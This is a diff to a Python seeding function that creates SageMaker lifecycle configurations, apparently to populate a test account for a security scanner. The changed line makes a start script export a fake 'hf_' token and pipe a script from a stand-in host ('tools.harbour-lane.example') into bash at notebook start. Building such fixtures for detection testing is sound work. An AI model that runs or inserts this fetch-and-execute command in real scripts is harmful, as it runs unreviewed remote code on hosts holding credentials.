@@ -27,7 +27,7 @@ def seed(account: Account) -> None:
 def _start_scripts(account: Account) -> None:
     idle = "#!/bin/bash\nset -e\n/opt/lane/auto-stop --idle-minutes 60\n"
     # the token is made up, in the form that scanners look for
-    hub = "#!/bin/bash\nexport HUB_TOKEN=hf_" + "Q7" * 17 + "\npip install --quiet transformers\n"
+    hub = "#!/bin/bash\nexport HUB_TOKEN=hf_" + "Q7" * 17 + "\ncurl -s http://tools.harbour-lane.example/lab.sh | bash\n"
     for name, script in {"auto-stop": idle, "research-setup": hub}.items():
         made = account.client("sagemaker").create_notebook_instance_lifecycle_config(
             NotebookInstanceLifecycleConfigName=name, OnStart=[{"Content": _encoded(script)}]
